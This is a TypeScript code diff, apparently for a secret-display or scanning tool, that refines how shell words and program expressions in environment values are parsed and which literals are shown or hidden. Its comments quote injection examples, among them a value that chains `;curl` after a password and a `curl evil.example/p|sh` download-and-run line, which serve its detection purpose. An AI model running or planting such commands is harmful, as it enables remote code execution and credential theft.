@@ -1771,18 +1771,24 @@ interface Span {
 
 /**
  * Where the word a shell reads at `from` of `text` (a quoted command's own text) ends: at a blank
- * outside its quotes, escapes and substitutions (see `expansionEnd`), or at the end. One pass over the word.
+ * or one of the shell's operators `; & | < > ( )` outside its quotes, escapes and substitutions
+ * (see `expansionEnd`; r54 G7: `DB_PASSWORD="a b";curl …` ends before the `;`), or at the end.
+ * Inside `"…"` a `\\` escapes the character after it. One pass over the word.
  */
 function innerWordEnd(text: string, from: number): number {
   let i = from;
-  while (i < text.length && !/\s/.test(text[i] as string)) {
+  while (i < text.length && !/[\s;&|<>()]/.test(text[i] as string)) {
     const c = text[i] as string;
     if (c === "\\") i += 2;
     else if (c === "`" || (c === "$" && /[{([]/.test(text[i + 1] ?? "")))
       i = Math.max(i + 1, expansionEnd(text, i).end);
-    else if (c === "'" || c === '"') {
+    else if (c === "'") {
       const close = text.indexOf(c, i + 1);
       i = close < 0 ? text.length : close + 1;
+    } else if (c === '"') {
+      let close = i + 1;
+      while (close < text.length && text[close] !== '"') close += text[close] === "\\" ? 2 : 1;
+      i = close + 1;
     } else i += 1;
   }
   return Math.min(i, text.length);
@@ -2607,16 +2613,64 @@ const GOES_ON_AT_BREAK = /[-+*/%<>=&|?:.~^!]/;
 /** What, before a `/` (blanks aside), makes it open a JS regex literal, not divide: an operator, an opening or closing punctuator, or nothing. */
 const REGEX_BEFORE = /[-+*%<>~^(,=:[!&|?{};]/;
 
+/** The line break at or after `at` in `text`, or its end. */
+function lineEndAt(text: string, at: number): number {
+  let j = at;
+  while (j < text.length && text[j] !== "\n" && text[j] !== "\r") j += 1;
+  return j;
+}
+
+/** What a program's text passes over whole at a point (see `passedOver`). */
+interface PassedOver {
+  /** Where it ends (after a regex literal's flags). */
+  end: number;
+  /** A JS regex literal's body, `[start, end)` between its slashes; none for a comment. */
+  body?: [number, number];
+  /** Left open (a regex literal on its line, a `/*` never closed): it cannot be read with confidence. */
+  open: boolean;
+}
+
+/**
+ * At `i` of a program's `text`, `last` being the last character read outside strings and comments
+ * that is no blank (`""` for none): the comment or JS regex literal that opens there, or undefined.
+ * A comment is `/*…*\/`, or `//…` or Python's `#…` to the line's end (a `#` after `.` is JS's
+ * private name). A regex literal is a `/` after an operator, an opening or closing punctuator or
+ * nothing (`REGEX_BEFORE`), to an unescaped `/` outside `[…]` on its line, then its flags. The
+ * one reader of both for `statementEnd` and `shownProgramExpression`.
+ */
+function passedOver(text: string, i: number, last: string): PassedOver | undefined {
+  const c = text[i];
+  const next = text[i + 1];
+  if (c === "/" && next === "*") {
+    const close = text.indexOf("*/", i + 2);
+    return close < 0 ? { end: text.length, open: true } : { end: close + 2, open: false };
+  }
+  if ((c === "/" && next === "/") || (c === "#" && last !== "."))
+    return { end: lineEndAt(text, i), open: false };
+  if (c !== "/" || (last !== "" && !REGEX_BEFORE.test(last))) return undefined;
+  let j = i + 1;
+  let inClass = false;
+  for (; j < text.length && !/[\n\r]/.test(text[j] as string); j += 1) {
+    const r = text[j] as string;
+    if (r === "\\") j += 1;
+    else if (r === "[") inClass = true;
+    else if (r === "]") inClass = false;
+    else if (r === "/" && !inClass) break;
+  }
+  if (text[j] !== "/") return { end: lineEndAt(text, i), open: true };
+  let end = j + 1;
+  while (/[a-z]/.test(text[end] ?? "")) end += 1;
+  return { end, body: [i + 1, j], open: false };
+}
+
 /**
  * Where the expression at `from` in a program's text ends: before a `;`, a `,` or a line break
  * outside every bracket it opened, or a `)`, `]` or `}` that closes nothing it opened, and before
- * the blanks there (a line break after or before an operator goes on); or at the end of `text`. A string literal (quoted `'`, `"` or a backtick, `\\`
- * escaping), a `/*…*\/`, `//…` or Python `#…` comment (to the line's end; a `#` after `.` is JS's
- * private name) and a JS regex literal (a `/` after an operator, an opening or closing punctuator
- * or nothing, to an unescaped `/` outside `[…]` on its line) are passed over whole, so a bracket
- * in them neither ends the expression nor keeps it open (r51 F3: `"a"+/[)]/.source+"X"`). A
- * comment or regex left open, which cannot be read with confidence, ends the expression at the
- * line break after it (or the end of `text`). One pass.
+ * the blanks there (a line break after or before an operator goes on); or at the end of `text`. A
+ * string literal (quoted `'`, `"` or a backtick, `\\` escaping), a comment and a JS regex literal
+ * (see `passedOver`) are passed over whole, so a bracket in them neither ends the expression nor
+ * keeps it open (r51 F3: `"a"+/[)]/.source+"X"`). A comment or regex left open, which cannot be
+ * read with confidence, ends the expression at the line break after it (or the end of `text`). One pass.
  */
 function statementEnd(text: string, from: number): number {
   let depth = 0;
@@ -2624,49 +2678,21 @@ function statementEnd(text: string, from: number): number {
   let end = text.length;
   // The last character read outside strings and comments that is no blank.
   let last = "";
-  // The line break at or after `at`, or the end of `text`.
-  const lineEnd = (at: number) => {
-    let j = at;
-    while (j < text.length && text[j] !== "\n" && text[j] !== "\r") j += 1;
-    return j;
-  };
   for (let i = from; i < text.length; i += 1) {
     const c = text[i] as string;
-    const next = text[i + 1] ?? "";
     if (quote !== "") {
       if (c === "\\") i += 1;
       else if (c === quote) quote = "";
       continue;
     }
-    if (c === "/" && next === "*") {
-      const close = text.indexOf("*/", i + 2);
-      if (close < 0) {
-        end = lineEnd(i);
-        break;
-      }
-      i = close + 1;
-      continue;
+    const over = passedOver(text, i, last);
+    if (over?.open) {
+      end = lineEndAt(text, i);
+      break;
     }
-    if ((c === "/" && next === "/") || (c === "#" && last !== ".")) {
-      i = lineEnd(i) - 1;
-      continue;
-    }
-    if (c === "/" && (last === "" || REGEX_BEFORE.test(last))) {
-      let j = i + 1;
-      let inClass = false;
-      for (; j < text.length && !/[\n\r]/.test(text[j] as string); j += 1) {
-        const r = text[j] as string;
-        if (r === "\\") j += 1;
-        else if (r === "[") inClass = true;
-        else if (r === "]") inClass = false;
-        else if (r === "/" && !inClass) break;
-      }
-      if (text[j] !== "/") {
-        end = lineEnd(i);
-        break;
-      }
-      i = j;
-      last = "/";
+    if (over) {
+      i = over.end - 1;
+      if (over.body) last = text[i] as string;
       continue;
     }
     // A line break after an operator, or before one, goes on (`'sk-'+ // (\n'X'`).
@@ -2692,17 +2718,41 @@ function statementEnd(text: string, from: number): number {
   return end;
 }
 
+/** Names of calls whose string argument names a module to load: a location, shown (see `shownLiteral`). */
+const MODULE_LOADERS = /^(?:require|import|__import__|import_module)$/;
+
+/**
+ * For the display (r54 G4): whether a literal's text read at run time in a program's env
+ * expression (an argument of a call a name roots, an index, a template's `${…}`; see
+ * `shownProgramExpression`) is shown as written rather than hidden in place. Shown when it reads
+ * as a command or a location, which a credential does not: it holds a blank or a `|` (`'curl
+ * evil.example/p|sh'`) or a URL's `://`, it is a path (it starts with `/`, `./`, `../` or `~/`,
+ * or dotted words before its first `/`: `evil.example/p`), or it is the argument of a call that
+ * loads a module (`require('child_process')`, `__import__('os')`). Any other literal, one token
+ * (a key, a password, base64 text for `atob`, `getenv`'s default), is hidden.
+ */
+function shownLiteral(body: string, callee: string): boolean {
+  return (
+    MODULE_LOADERS.test(callee) ||
+    /[\s|]|:\/\//.test(body) ||
+    /^(?:\.{0,2}|~)\//.test(body) ||
+    /^[\w-]+(?:\.[\w-]+)+(?::\d+)?\//.test(body)
+  );
+}
+
 /**
  * For the display only (r50 F2): a program's expression `text` (from its first literal's opening
- * quote to the statement's end, see `statementEnd`) with each string literal of the literal chain
- * written as its quotes around `literal(its text)`, and everything else written as `code(text)`,
- * so a call in the expression (`'sk-'+require('child_process').execSync('curl …')`) stays in sight.
- * The chain is what a literal roots: the literals outside every bracket, and those inside a
- * method's brackets on a literal (`'a'.concat('b')`, `'-'.join(['x', 'y'])`) or inside a grouping,
- * an array or an object in the chain. What a name roots (`require(…)`, `f('x')`, `x.y`) and a
- * template literal's `${…}` are code, read at run time. Undefined when there is no such code (the
- * expression is literals, their methods, numbers, operators): hidden whole, as the export hides it.
- * One pass.
+ * quote to the statement's end, see `statementEnd`) with string literals (`'…'`, `"…"`, Python's
+ * `'''…'''` and `"""…"""`, a template's text between its `${…}`) and regex literals' bodies
+ * written as their quotes around `literal(its text)`, and everything else written as
+ * `code(text)`, so a call in the expression (`'sk-'+require('child_process').execSync('curl …')`)
+ * stays in sight. The chain's literals are all hidden: those a literal roots, outside every
+ * bracket, or inside a method's brackets on a literal (`'a'.concat('b')`, `'-'.join(['x', 'y'])`)
+ * or inside a grouping, an array or an object in the chain. What a name roots (`require(…)`,
+ * `f('x')`, `x['k']`) and a template's `${…}` (nested templates too) are code, read at run time:
+ * a literal there is hidden unless `shownLiteral` (r54 G4). Undefined when there is no such code
+ * (the expression is literals, their methods, numbers, operators), or a comment or regex literal
+ * is left open (see `passedOver`): hidden whole, as the export hides it. One pass.
  */
 function shownProgramExpression(
   text: string,
@@ -2714,51 +2764,85 @@ function shownProgramExpression(
   const pieces: { text: string; hidden: boolean }[] = [];
   // The code read since the last literal hidden.
   let pending = "";
-  const flush = (hidden = "") => {
-    pieces.push({ text: pending, hidden: false });
-    if (hidden !== "") pieces.push({ text: hidden, hidden: true });
-    pending = "";
+  interface Frame {
+    // Whether its literals are the chain's.
+    chain: boolean;
+    // Whether the operand being read there started with a literal (undefined: none started yet).
+    literal: boolean | undefined;
+    // A template's `${…}`, which its `}` closes.
+    template: boolean;
+    // The name of the call it is the brackets of (`require`), or "".
+    callee: string;
+  }
+  // Each bracket open (the expression itself first).
+  const frames: Frame[] = [{ chain: true, literal: undefined, template: false, callee: "" }];
+  // A literal's text: hidden in place, or kept as code (see `shownLiteral`).
+  const put = (body: string) => {
+    const { chain, callee } = frames.at(-1) as Frame;
+    if (chain || !shownLiteral(body, callee)) {
+      pieces.push({ text: pending, hidden: false });
+      if (body !== "") pieces.push({ text: body, hidden: true });
+      pending = "";
+    } else pending += body;
   };
-  // Each bracket open (the expression itself first): whether its literals are the chain's, and
-  // whether the operand being read there started with a literal (undefined: none started yet).
-  const frames: { chain: boolean; literal: boolean | undefined }[] = [{ chain: true, literal: undefined }];
   // Whether code a name roots was read: the expression is then shown in place.
   let runTime = false;
-  // The last character read that is no blank.
+  // The last character read that is no blank (outside literals and comments), and the last name read.
   let last = "";
+  let name = "";
+  // A template's text from `from` (after its opening backtick, or a `${…}`'s `}`) to its closing
+  // backtick, read, or a `${`, which opens a frame; where reading goes on.
+  const template = (from: number): number => {
+    let j = from;
+    while (j < text.length && text[j] !== "`" && !(text[j] === "$" && text[j + 1] === "{"))
+      j += text[j] === "\\" ? 2 : 1;
+    j = Math.min(j, text.length);
+    put(text.slice(from, j));
+    last = "`";
+    if (j >= text.length) return j;
+    if (text[j] === "`") {
+      pending += "`";
+      return j + 1;
+    }
+    pending += "${";
+    runTime = true;
+    frames.push({ chain: false, literal: undefined, template: true, callee: "" });
+    last = "{";
+    return j + 2;
+  };
   for (let i = 0; i < text.length; ) {
     const c = text[i] as string;
-    const frame = frames.at(-1) as { chain: boolean; literal: boolean | undefined };
-    if (c === "'" || c === '"' || c === "`") {
-      let close = i + 1;
-      while (close < text.length && text[close] !== c) close += text[close] === "\\" ? 2 : 1;
+    const frame = frames.at(-1) as Frame;
+    if (c === "`") {
+      frame.literal ??= true;
+      pending += c;
+      i = template(i + 1);
+      continue;
+    }
+    if (c === "'" || c === '"') {
+      const quote = text.startsWith(c.repeat(3), i) ? c.repeat(3) : c;
+      let close = i + quote.length;
+      while (close < text.length && !text.startsWith(quote, close)) close += text[close] === "\\" ? 2 : 1;
       close = Math.min(close, text.length);
       frame.literal ??= true;
+      pending += quote;
+      put(text.slice(i + quote.length, close));
+      pending += text.slice(close, close + quote.length);
       last = c;
-      if (!frame.chain) {
-        pending += text.slice(i, close + 1);
-        i = close + 1;
-        continue;
-      }
-      pending += c;
-      // A template literal's `${…}` is read at run time: kept as code between the hidden stretches.
-      let from = i + 1;
-      for (let j = from; c === "`" && j < close; j += text[j] === "\\" ? 2 : 1) {
-        if (text[j] !== "$" || text[j + 1] !== "{") continue;
-        let end = j + 2;
-        for (let depth = 1; end < close; end += 1) {
-          if (text[end] === "{") depth += 1;
-          else if (text[end] === "}" && --depth === 0) break;
-        }
-        flush(text.slice(from, j));
-        pending = text.slice(j, end + 1);
-        runTime = true;
-        from = end + 1;
-        j = end;
-      }
-      flush(text.slice(from, close));
-      pending = text.slice(close, close + 1);
-      i = close + 1;
+      i = close + quote.length;
+      continue;
+    }
+    const over = passedOver(text, i, last);
+    if (over?.open) return undefined;
+    if (over) {
+      if (over.body) {
+        frame.literal ??= true;
+        pending += text.slice(i, over.body[0]);
+        put(text.slice(over.body[0], over.body[1]));
+        pending += text.slice(over.body[1], over.end);
+        last = "/";
+      } else pending += text.slice(i, over.end);
+      i = over.end;
       continue;
     }
     let step = 1;
@@ -2768,20 +2852,32 @@ function shownProgramExpression(
       const prefix = /^[rRuUbBfF]{1,2}$/.test(text.slice(i, i + step)) && /['"]/.test(text[i + step] ?? "");
       if (last !== "." && !prefix && frame.literal === undefined) frame.literal = false;
       if (last !== "." && !prefix && frame.literal === false) runTime = true;
+      name = text.slice(i, i + step);
     } else if (/[\d\s.]/.test(c)) {
       // A number, a blank, a method's dot: the operand goes on.
     } else if (c === "(" || c === "[" || c === "{") {
       // A call or an index (after a name, a bracket or a literal) is the chain's when a literal roots it.
       const call = /[\w$)\]'"`]/.test(last);
-      frames.push({ chain: frame.chain && (!call || frame.literal !== false), literal: undefined });
+      const callee = /[\w$]/.test(last) ? name : "";
+      frames.push({
+        chain: frame.chain && (!call || frame.literal !== false),
+        literal: undefined,
+        template: false,
+        callee,
+      });
+    } else if (c === "}" && frame.template) {
+      frames.pop();
+      pending += c;
+      i = template(i + 1);
+      continue;
     } else if (c === ")" || c === "]" || c === "}") {
-      if (frames.length > 1) frames.pop();
+      if (frames.length > 1 && !frame.template) frames.pop();
     } else frame.literal = undefined;
     pending += text.slice(i, i + step);
     if (!/\s/.test(c)) last = text[i + step - 1] as string;
     i += step;
   }
-  flush();
+  pieces.push({ text: pending, hidden: false });
   return runTime
     ? pieces.map((piece) => (piece.hidden ? literal(piece.text) : code(piece.text))).join("")
     : undefined;
